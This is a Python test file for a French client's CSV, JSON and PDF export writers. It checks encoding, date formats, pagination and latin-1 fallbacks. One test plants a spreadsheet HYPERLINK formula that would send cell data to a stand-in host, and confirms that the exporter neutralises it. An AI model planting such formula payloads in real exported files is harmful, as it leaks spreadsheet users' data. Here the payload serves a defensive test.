"""The file writers of `cesp_client.exports`: CSV for French spreadsheets (read back with the
csv module), JSON, and a real PDF (read back with pypdf) with a TrueType font or the
latin-1 core font."""

from __future__ import annotations

import csv
import json
from datetime import date, datetime
from pathlib import Path

import pytest
from pypdf import PdfReader

from cesp_client.exports import (
    Column,
    cell_text,
    find_unicode_font,
    latin1_text,
    row_cells,
    write_csv,
    write_json,
    write_pdf,
)
from cesp_core.timefmt import PARIS

COLUMNS = [Column("numero", "N° candidature"), Column("candidat", "Candidat"), "Spécialité"]
ROWS = [
    {"numero": "ASP-2026-000001", "candidat": "Œdipe d’Artagnan", "Spécialité": "Cœur; poumons"},
    {"numero": "ASP-2026-000002", "candidat": 'Hélène "Lena" Dupré', "Spécialité": None},
]


def test_cells_are_written_as_people_read_them() -> None:
    assert cell_text(None) == ""
    assert cell_text(True) == "Oui" and cell_text(False) == "Non"
    assert cell_text(date(2026, 3, 13)) == "13/03/2026"
    # In Paris time: a naive datetime is UTC (the store's convention).
    assert cell_text(datetime(2026, 3, 13, 9, 5, tzinfo=PARIS)) == "13/03/2026 09:05"
    assert cell_text(datetime(2026, 3, 13, 8, 5)) == "13/03/2026 09:05"
    assert cell_text(42) == "42"
    # A row by position, shorter than the columns: the rest is empty.
    assert row_cells(COLUMNS, ["A", "B"]) == ["A", "B", ""]


def test_csv_for_french_spreadsheets(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "sub" / "recap.csv", COLUMNS, ROWS)
    assert path == tmp_path / "sub" / "recap.csv"
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM
    assert b"N\xc2\xb0 candidature;Candidat;Sp\xc3\xa9cialit\xc3\xa9" in raw
    with path.open(encoding="utf-8-sig", newline="") as handle:
        lines = list(csv.reader(handle, delimiter=";"))
    assert lines == [
        ["N° candidature", "Candidat", "Spécialité"],
        ["ASP-2026-000001", "Œdipe d’Artagnan", "Cœur; poumons"],
        ["ASP-2026-000002", 'Hélène "Lena" Dupré', ""],
    ]
    assert not list(tmp_path.glob("sub/.recap.csv.*"))  # no temporary file left


def test_json_keeps_keys_and_types(tmp_path: Path) -> None:
    path = write_json(
        tmp_path / "recap.json",
        ["n", "ok", "quand"],
        [{"n": 3, "ok": True, "quand": date(2026, 3, 13)}, [4, False, None]],
    )
    assert json.loads(path.read_text(encoding="utf-8")) == [
        {"n": 3, "ok": True, "quand": "2026-03-13"},
        {"n": 4, "ok": False, "quand": None},
    ]


def test_latin1_replacements() -> None:
    assert latin1_text("Œuvre d’art — cœur…") == "OEuvre d'art - coeur..."
    assert latin1_text("éèàçôïÉ «»") == "éèàçôïÉ «»"  # French accents are latin-1
    assert latin1_text("日本") == "??"


def _text(path: Path) -> tuple[PdfReader, str]:
    reader = PdfReader(path)
    return reader, "\n".join(page.extract_text() for page in reader.pages)


@pytest.mark.skipif(find_unicode_font() is None, reason="no TrueType font on this system")
def test_pdf_with_a_truetype_font_keeps_every_character(tmp_path: Path) -> None:
    path = write_pdf(
        tmp_path / "recap.pdf", "Récapitulatif", COLUMNS, ROWS, subtitle="Établissement"
    )
    reader, text = _text(path)
    page = reader.pages[0]
    assert (round(float(page.mediabox.width)), round(float(page.mediabox.height))) == (842, 595)
    for expected in ("Récapitulatif", "Établissement", "N° candidature", "Œdipe d’Artagnan"):
        assert expected in text
    assert "Cœur; poumons" in text
    assert "Page 1 / 1" in text


def test_pdf_with_the_core_font_replaces_what_latin1_lacks(tmp_path: Path) -> None:
    path = write_pdf(tmp_path / "recap.pdf", "Récapitulatif", COLUMNS, ROWS, unicode_font=False)
    _reader, text = _text(path)
    assert "Récapitulatif" in text and "Spécialité" in text
    assert "OEdipe d'Artagnan" in text
    assert "Hélène" in text


def test_pdf_columns_fit_and_long_tables_go_on(tmp_path: Path) -> None:
    columns = [Column(f"c{i}", f"Colonne {i}") for i in range(9)]
    long_text = "un texte assez long pour devoir passer à la ligne dans sa cellule " * 3
    rows = [{f"c{i}": (long_text if i == 4 else f"L{n}-{i}") for i in range(9)} for n in range(80)]
    path = write_pdf(tmp_path / "long.pdf", "Liste longue", columns, rows)
    reader, text = _text(path)
    assert len(reader.pages) > 1
    assert text.count("Colonne 8") == len(reader.pages)  # the header on every page
    assert "L79-8" in text and "L0-0" in text
    assert f"Page {len(reader.pages)} / {len(reader.pages)}" in text


def test_pdf_of_no_row(tmp_path: Path) -> None:
    path = write_pdf(tmp_path / "vide.pdf", "Rien", ["A"], [])
    _reader, text = _text(path)
    assert "Aucune ligne." in text


def test_csv_cells_a_spreadsheet_would_run_are_guarded(tmp_path: Path) -> None:
    """Issue 15: the Récap CSV never hands a formula to the spreadsheet (as the server's)."""
    from cesp_core.imports import to_csv

    planted = '=HYPERLINK("https://exemple.invalid/?d="&A1;"Voir")'
    rows = [["ASP-2026-000003", planted, "+33 1 23"], ["ASP-2026-000004", "@SUM(A1)", "-2"]]
    path = write_csv(tmp_path / "recap.csv", COLUMNS, rows)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        lines = list(csv.reader(handle, delimiter=";"))
    assert lines[1] == ["ASP-2026-000003", "'" + planted, "'+33 1 23"]
    assert lines[2] == ["ASP-2026-000004", "'@SUM(A1)", "'-2"]
    # the same guard as the server's export
    server = to_csv([{"a": planted}], ["a"]).splitlines()[1]
    assert next(csv.reader([server], delimiter=";")) == ["'" + planted]
